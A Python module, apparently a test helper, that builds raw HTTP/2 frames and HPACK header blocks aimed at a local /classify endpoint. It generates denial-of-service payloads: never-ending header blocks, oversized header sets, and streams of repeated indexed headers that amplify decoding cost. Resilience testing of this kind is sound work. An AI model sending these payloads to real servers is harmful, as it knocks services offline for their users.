"""HTTP/2 frames and header blocks (HPACK, RFC 7541, without Huffman coding) for attacks."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, CONTINUATION = 1, 4, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
STREAMS = 64
FRAME = 16384


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    length, rest = b"\x7f", len(text) - 127
    while rest > 127:
        length += bytes([rest & 127 | 128])
        rest >>= 7
    return length + bytes([rest]) + text


def field(name: bytes, value: bytes) -> bytes:
    return b"\0" + string(name) + string(value)


def request(method: str, path: str) -> bytes:
    """The mandatory fields of a request; POST, GET and http are indices of the static table."""
    of_method = b"\x83" if method == "POST" else b"\x82"
    return of_method + b"\x86\x04" + string(path.encode()) + b"\x01" + string(b"127.0.0.1")


def block(stream: int, fields: bytes, flags: int = END_HEADERS) -> bytes:
    parts = [fields[at : at + FRAME] for at in range(0, len(fields), FRAME)]
    frames = [frame(HEADERS, flags if len(parts) == 1 else flags & END_STREAM, stream, parts[0])]
    for number, part in enumerate(parts[1:], 2):
        frames.append(frame(CONTINUATION, flags & END_HEADERS if number == len(parts) else 0, stream, part))
    return b"".join(frames)


def start(window: int | None = None) -> bytes:
    settings = b"" if window is None else struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def streams(fields: bytes, flags: int = END_HEADERS, window: int | None = None, count: int = STREAMS) -> bytes:
    """A connection with `count` requests with these fields."""
    return start(window) + b"".join(block(2 * number + 1, fields, flags) for number in range(count))


POST = request("POST", "/classify")


def large(size: int) -> bytes:
    """The headers of an upload, about `size` bytes."""
    return POST + b"".join(field(b"x-%d" % number, b"a" * 1000) for number in range(size // 1000))


def unfinished() -> bytes:
    """A header block that never ends."""
    return start() + block(1, large(31_000), 0)


def repeated() -> bytes:
    """Requests with 1,900 headers of one byte each."""
    first = block(1, POST + b"\x40" + string(b"x") + string(b""))
    rest = (block(2 * number + 1, POST + b"\xbe" * 1900) for number in range(1, STREAMS))
    return start() + first + b"".join(rest)
